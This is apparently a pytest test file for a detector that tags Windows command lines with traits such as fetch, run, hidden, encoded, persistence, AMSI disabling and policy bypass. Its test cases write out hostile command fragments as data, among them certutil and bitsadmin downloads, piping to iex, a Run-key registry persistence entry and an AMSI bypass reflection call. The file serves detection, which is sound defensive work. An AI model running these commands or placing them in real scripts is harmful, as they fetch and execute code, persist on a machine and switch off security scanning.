"""Traits of texts: each is found, and no text takes long."""

from __future__ import annotations

import time

import pytest

from fyke.files.scripts.traits import program_of, traits, urls


@pytest.mark.parametrize(
    ("text", "trait"),
    [
        ("certutil -urlcache -f http://example.test/a a", "fetch"),
        ("bitsadmin /transfer x http://example.test/a c:\\a", "fetch"),
        ("curl -o a http://example.test/a", "fetch"),
        ("mshta https://example.test/a", "fetch"),
        ("regsvr32 /s a.dll", "run"),
        ("x | iex", "run"),
        ("powershell -w 1 -c x", "hidden"),
        ("powershell -EncodedCommand " + "QUJD" * 10, "encoded"),
        ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x", "persists"),
        ("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "disables"),
        ("powershell -ExecutionPolicy Bypass", "bypass"),
    ],
)
def test_traits(text, trait):
    """Each trait is found by the words of Windows' own programs."""
    assert trait in traits(text)


@pytest.mark.parametrize("text", ["see the list of windows", "curl up with a book", "start early", "a remix", "-west"])
def test_prose_has_none(text):
    """Words of people are no traits."""
    assert traits(text) == {}


@pytest.mark.parametrize(
    "piece",
    ["powershell ", "certutil ", "start ", ".run ", "wscript ", "schtasks ", "iex", "curl ", "http://", "msiexec "],
)
def test_time_is_in_proportion(piece):
    """A word said a hundred thousand times takes no more than seconds."""
    started = time.process_time()
    traits(piece * 100_000)
    urls(piece * 100_000)
    assert time.process_time() - started < 4


def test_names_and_addresses():
    """The program of a path; addresses without the quotes and points around them."""
    assert program_of('"C:\\Windows\\System32\\CMD.exe"') == "cmd"
    assert urls("get 'http://example.test/a.exe', or http://example.test/b.") == [
        "http://example.test/a.exe",
        "http://example.test/b",
    ]
